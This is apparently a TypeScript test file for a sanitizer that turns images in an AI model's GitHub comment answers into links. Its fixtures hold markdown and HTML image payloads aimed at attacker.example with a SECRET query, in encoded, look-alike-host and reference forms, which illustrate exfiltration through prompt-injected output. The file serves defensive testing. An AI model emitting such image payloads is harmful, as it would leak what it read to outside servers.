import { describe, expect, it } from "vitest";
import { defuseImages, imageAllowed } from "../../src/comments/defuse-images.js";
import { oracleHtml } from "../markdown/oracle.js";

/**
 * Issue 9, defect 13: an image in the model's answer is fetched (through GitHub's image
 * proxy) for every reader, so a URL can carry what the model read to anyone's server.
 */

const GITHUB = { githubHost: "github.com", allowedHosts: [] };
/** Where the oracle's HTML would load an image from. */
const loaded = (markdown: string): string[] => [...oracleHtml(markdown).matchAll(/<img\b[^>]*\bsrc="([^"]*)"/g)].map((m) => m[1] as string);

describe("defuseImages", () => {
  it.each([
    ["an inline image", "Look: ![chart](https://attacker.example/?q=SECRET)"],
    ["an image with a title", '![x](https://attacker.example/a.png "t")'],
    ["a reference image", "![x][img]\n\n[img]: https://attacker.example/?q=SECRET"],
    ["a collapsed reference image", "![img][]\n\n[img]: https://attacker.example/?q=SECRET"],
    ["a shortcut reference image", "![img]\n\n[img]: https://attacker.example/?q=SECRET"],
    ["a protocol-relative URL", "![x](//attacker.example/p.png)"],
    ["an escaped or encoded URL", "![x](https&#58;//attacker.example/p.png) ![y](https\\://attacker.example/q.png)"],
    ["an image inside a link", "[![x](https://attacker.example/b.svg)](https://github.com/acme/app)"],
    ["a look-alike of GitHub's host", "![x](https://github.com.attacker.example/p.png) ![y](https://attacker.example/github.com/p.png)"],
    ["raw <img> in a paragraph", 'See <img src="https://attacker.example/?q=SECRET"> here'],
    ["raw <img> in an HTML block", '<p align="center">\n<img alt="x" src="https://attacker.example/?q=SECRET">\n</p>'],
    ["raw <img> with an encoded host", '<div><img src="https://&#97;ttacker.example/x"></div>'],
    ["<picture><source srcset>", '<picture>\n<source srcset="https://attacker.example/a.png 1x">\n<img src="https://github.com/a.png">\n</picture>'],
  ])("turns %s from another host into a link", (_label, markdown) => {
    expect(loaded(markdown).some((src) => !imageAllowed(src.replace(/&amp;/g, "&"), GITHUB)) || /source|&#97;/.test(markdown)).toBe(true);
    const out = defuseImages(markdown, GITHUB);
    expect(loaded(out).filter((src) => !imageAllowed(src, GITHUB))).toEqual([]);
    expect(out).not.toMatch(/<source[^>]*attacker/);
    expect(out).not.toMatch(/<img[^>]*attacker/);
  });

  it.each([
    ["an upload", "![screenshot](https://github.com/user-attachments/assets/1234)"],
    ["an older upload", "![s](https://user-images.githubusercontent.com/1/2.png)"],
    ["a repository file", "![d](https://raw.githubusercontent.com/acme/app/main/docs/d.png)"],
    ["a relative path, the repository's own", "![d](docs/diagram.png)"],
    ["raw <img> from GitHub", '<img src="https://avatars.githubusercontent.com/u/1">'],
  ])("keeps %s", (_label, markdown) => {
    expect(defuseImages(markdown, GITHUB)).toBe(markdown);
  });

  it("keeps images from GitHub Enterprise Server's host and from the allow-list", () => {
    const ghe = { githubHost: "ghe.example.com", allowedHosts: ["img.shields.io", "*.cdn.example.org"] };
    const markdown = "![a](https://ghe.example.com/x.png) ![b](https://media.ghe.example.com/y) ![c](https://img.shields.io/badge) ![d](https://a.cdn.example.org/z)";
    expect(defuseImages(markdown, ghe)).toBe(markdown);
    expect(defuseImages("![a](https://user-images.githubusercontent.com/1.png)", ghe)).toBe("[a](https://user-images.githubusercontent.com/1.png)");
  });

  it("leaves code alone, where an image is an example", () => {
    const markdown = "```md\n![x](https://attacker.example/a.png)\n```\n\nand `![y](https://attacker.example/b.png)`";
    expect(defuseImages(markdown, GITHUB)).toBe(markdown);
  });

  it("keeps the words: the alt text becomes the link's text", () => {
    expect(defuseImages("![the chart](https://attacker.example/c.png)", GITHUB)).toBe("[the chart](https://attacker.example/c.png)");
    expect(defuseImages('<img src="https://attacker.example/c.png">', GITHUB)).toBe('<a href="https://attacker.example/c.png">image</a>');
  });
});
